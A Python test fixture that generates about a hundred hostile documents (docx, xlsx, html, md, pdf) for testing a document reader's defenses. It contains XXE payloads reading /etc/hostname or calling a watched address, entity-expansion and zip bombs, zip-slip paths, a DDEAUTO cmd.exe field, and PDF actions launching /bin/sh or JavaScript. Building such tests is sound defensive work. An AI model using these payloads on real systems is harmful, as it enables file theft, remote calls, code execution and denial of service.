"""A hundred files more that mean harm, beside those of `tests.readers.hostile`: name -> what makes its content.

What they point at elsewhere is `{elsewhere}`, an address that somebody watches, or a file of this machine.
"""

import io
import random
import stat
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from itertools import permutations

from tests.readers.hostile import END, MAIN, SENTENCE, changed, word, workbook
from tests.readers.pdfs import column_of, pdf
from tests.readers.words import W, docx, p, zipped

Made = tuple[str, Callable[[], bytes]]
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LINES = "".join(f"{number}、{SENTENCE}(牵头部门:甲局)\n" for number in range(1, 40))
SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"


def files(elsewhere: str) -> Iterator[Made]:
    yield from _entities(elsewhere)
    yield from _references(elsewhere)
    yield from _archives()
    yield from _renamed()
    yield from _cut()
    yield from _tables()
    yield from _nested()
    yield from _characters()
    yield from _pdfs(elsewhere)


def _added(content: bytes, **parts: str | bytes) -> bytes:
    """The archive with parts more, `__` in whose names stands for /."""
    buffer = io.BytesIO(content)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name.replace("__", "/").replace("_xml", ".xml"), part)
    return buffer.getvalue()


def _headed(content: bytes, part: str, before: str) -> bytes:
    """The archive with something before one part."""
    return changed(content, part, lambda xml: before.encode() + xml)


def _related(kind: str, target: str, body: str = "") -> bytes:
    """A Word file that is related to what lies elsewhere."""
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
        f'Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    buffer = io.BytesIO(word(p(SENTENCE) + body))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/_rels/document.xml.rels", rels)
        archive.writestr("word/_rels/settings.xml.rels", rels)
        archive.writestr("word/settings.xml", f'<w:settings {W} {R}><w:attachedTemplate r:id="r9"/></w:settings>')
    return buffer.getvalue()


def _entities(elsewhere: str) -> Iterator[Made]:
    """Read from a file or an address, and unfolded: in each part of a Word file, a workbook and a page."""
    kinds = {
        "file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
        "address": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{elsewhere}/entity">]>',
        "definition": f'<!DOCTYPE a SYSTEM "{elsewhere}/a.dtd">',
        "parameter": f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{elsewhere}/p.dtd"> %x;]>',
        "twice": f'<!DOCTYPE a [<!ENTITY y "{"国" * 50_000}"><!ENTITY x "{"&y;" * 5000}">]>',
    }
    whole, book = docx(p(SENTENCE) * 20), workbook()
    for kind, before in kinds.items():
        yield f"{kind} in text.docx", partial(word, "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", before)
        for part in ("word/styles.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"):
            yield (
                f"{kind} in {part.rpartition('/')[2]}.docx",
                partial(_headed, whole, part, before),
            )
        for part in (SHEET, "xl/workbook.xml"):
            yield (
                f"{kind} in {part.rpartition('/')[2]}.xlsx",
                partial(_headed, book, part, before),
            )
        yield f"{kind}.html", partial(str.encode, f"{before}<html><body><p>&x;{SENTENCE}</p>")


def _references(elsewhere: str) -> Iterator[Made]:
    for kind in ("attachedTemplate", "image", "hyperlink", "aFChunk", "oleObject", "frame", "subDocument"):
        body = f'<w:altChunk {R} r:id="r9"/>' if kind == "aFChunk" else ""
        yield f"{kind}.docx", partial(_related, kind, f"{elsewhere}/{kind}", body)
    for field in (
        'INCLUDETEXT "/etc/hostname"',
        f'INCLUDEPICTURE "{elsewhere}/i"',
        "DDEAUTO c:\\\\windows\\\\cmd.exe /k calc",
    ):
        run = f"<w:r><w:instrText>{field}</w:instrText></w:r>"
        yield f"field {field[:9]}.docx", partial(word, p(SENTENCE) + f"<w:p>{run}</w:p>")
    yield "macros.docm.docx", lambda: _added(docx(p(SENTENCE)), word__vbaProject_xml=random.Random(6).randbytes(9999))
    yield (
        "formulas.xlsx",
        lambda: changed(
            workbook(),
            SHEET,
            lambda xml: xml.replace(
                b"</sheetData>",
                f'<row><c t="str"><f>WEBSERVICE("{elsewhere}/f")</f><v>1</v></c></row></sheetData>'.encode(),
            ),
        ),
    )
    page = "".join(
        f"<{tag} {name}='{where}'></{tag}>"
        for where in (f"{elsewhere}/h", "file:///etc/hostname")
        for tag, name in (
            ("img", "src"), ("script", "src"), ("iframe", "src"), ("object", "data"), ("embed", "src"), ("video", "src"),
            ("link rel=stylesheet", "href"), ("base", "href"), ("form", "action"),
        )
    )  # fmt: skip
    yield "loads.html", lambda: f"<style>@import url({elsewhere}/c)</style>{page}<p>{SENTENCE}</p>".encode()
    yield (
        "refresh.html",
        lambda: f"<meta http-equiv=refresh content='0;url={elsewhere}/r'><p>{SENTENCE}</p>".encode(),
    )
    yield "links.md", lambda: f"# 通知\n\n![图]({elsewhere}/m) [甲](file:///etc/hostname)\n\n{LINES}".encode()


def _archives() -> Iterator[Made]:
    def holding(*entries: tuple[str | zipfile.ZipInfo, str | bytes]) -> bytes:
        buffer = io.BytesIO(docx(p(SENTENCE)))
        with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
            for name, content in entries:
                archive.writestr(name, content)
        return buffer.getvalue()

    link = zipfile.ZipInfo("word/numbering.xml")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    yield "link.docx", lambda: holding((link, "/etc/hostname"))
    for name in ("../../escaped.xml", "/tmp/escaped.xml", "..\\escaped.xml", "C:\\escaped.xml", "a/" * 500 + "a.xml"):
        yield f"{len(name)} up.docx", partial(holding, (name, SENTENCE))
    yield "two texts.docx", lambda: holding(("word/document.xml", f"{MAIN}{p('另一个')}{END}"))
    yield "a bomb in a bomb.docx", lambda: holding(("word/media/a.zip", zipped({"a": zipped({"b": bytes(10**8)})})))
    yield "styles bomb.docx", lambda: holding(("word/styles2.xml", bytes(250_000_000)))
    yield (
        "strings bomb.xlsx",
        lambda: changed(workbook(), STRINGS, lambda xml: xml.replace(b"</sst>", b"<si/>" * 3_000_000 + b"</sst>")),
    )


def _renamed() -> Iterator[Made]:
    kinds: dict[str, Callable[[], bytes]] = {
        "docx": lambda: docx(p(SENTENCE) * 20),
        "xlsx": workbook,
        "pdf": lambda: pdf([column_of([SENTENCE] * 10)]),
        "html": lambda: f"<html><body><p>{SENTENCE}</p></body></html>".encode(),
    }
    for kind, other in permutations(kinds, 2):
        yield f"{kind}.{other}", kinds[kind]
    yield "picture.pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(1000)
    yield "program.html", lambda: b"MZ" + bytes(1000)


def _cut() -> Iterator[Made]:
    for part in (1, 9):
        for name, content in (("docx", docx(p(SENTENCE) * 99)), ("xlsx", workbook()), ("pdf", pdf(["q\n" * 99]))):
            yield (
                f"{part} of 10.{name}",
                partial(bytes, content[: len(content) * part // 10]),
            )


def _tables() -> Iterator[Made]:
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>远</t></is></c></row></sheetData>'
    yield "far.xlsx", lambda: changed(workbook(), SHEET, lambda x: x.replace(b"</sheetData>", far.encode()))
    yield "square.html", lambda: b"<table>" + (b"<tr>" + b"<td>a" * 1500) * 1500 + b"</table>"
    yield (
        "square.md",
        lambda: ("|" + "甲|" * 1000 + "\n|" + "-|" * 1000 + "\n" + ("|" + "甲|" * 1000 + "\n") * 90).encode(),
    )
    yield "long.xlsx", lambda: changed(workbook(), SHEET, lambda x: x.replace(b"</sheetData>", b"<row><c><v>1</v></c></row>" * 200_000 + b"</sheetData>"))  # fmt: skip


def _nested() -> Iterator[Made]:
    yield "lists.html", lambda: b"<ul><li>" * 50_000 + SENTENCE.encode()
    yield "spans.html", lambda: f"<p>{'<span>' * 200_000}{SENTENCE}".encode()
    yield "quotes.md", lambda: b">" * 100_000 + SENTENCE.encode()
    yield "lists.md", lambda: "".join(f"{' ' * depth}- 甲\n" for depth in range(700)).encode()
    yield "brackets.txt", lambda: ("通知\n1、" + "（" * 100_000 + SENTENCE).encode()
    yield "levels.txt", lambda: ("通知\n" + "一、甲\n（一）乙\n1.丙\n（1）丁\n①戊\n" * 4000).encode()
    yield "one number.txt", lambda: ("通知\n" + "（1）甲事要做好。\n" * 10_000).encode()


def _characters() -> Iterator[Made]:
    for name, odd in {
        "right to left": "\u202e\u2067", "nothing wide": "\u200b\u200d\ufeff\u2060", "zero": "\x00", "escape": "\x1b]0;x\x07",
        "noncharacter": "\uffff\U0010ffff", "combining": "e" + "\u0301" * 3000, "separators": "\u2028\u2029\x85\x0b\x0c",
    }.items():  # fmt: skip
        yield f"{name}.txt", partial(str.encode, f"通{odd}知\n{LINES.replace('。', odd + '。')}")
        yield f"{name}.html", partial(str.encode, f"<p>通{odd}知</p><p>一、{SENTENCE}{odd}</p>")
    yield "half characters.txt", lambda: ("通\ud800知\n" + LINES).encode("utf-8", "surrogatepass")
    yield "half characters.html", lambda: f"<p>&#xD800;&#0;&#x110000;&#x202e;{SENTENCE}".encode()
    yield "half characters.docx", lambda: word(p("&#xFFFE;" + SENTENCE))


def _pdfs(elsewhere: str) -> Iterator[Made]:
    whole, form = pdf([column_of([SENTENCE] * 20) + "/A Do\n"]), b"<</XObject<</A 6 0 R>>"
    for name, before, after in (
        ("its own parent", b"/Type/Pages", b"/Type/Pages/Parent 2 0 R"),
        ("opens", b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/URI/URI(%s/o)>>" % elsewhere.encode()),
        ("starts", b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/Launch/F(/bin/sh)>>"),
        ("runs", b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('%s'))>>" % elsewhere.encode()),
        ("many pages", b"/Count 1", b"/Count 2147483647"),
        ("a font of nothing", b"/DW 1000", b"/DW -999999999/FontFile2 6 0 R"),
        ("before itself", b"trailer<<", b"trailer<</Prev 9 "),
    ):  # fmt: skip
        yield f"{name}.pdf", partial(whole.replace, before, after)
    drawing = whole.replace(b"<</Length", b"<</Subtype/Form/BBox[0 0 595 842]/Resources%s>>/Length" % form)
    yield "draws itself.pdf", lambda: drawing.replace(b"/Resources<</Font", b"/Resources%s/Font" % form)
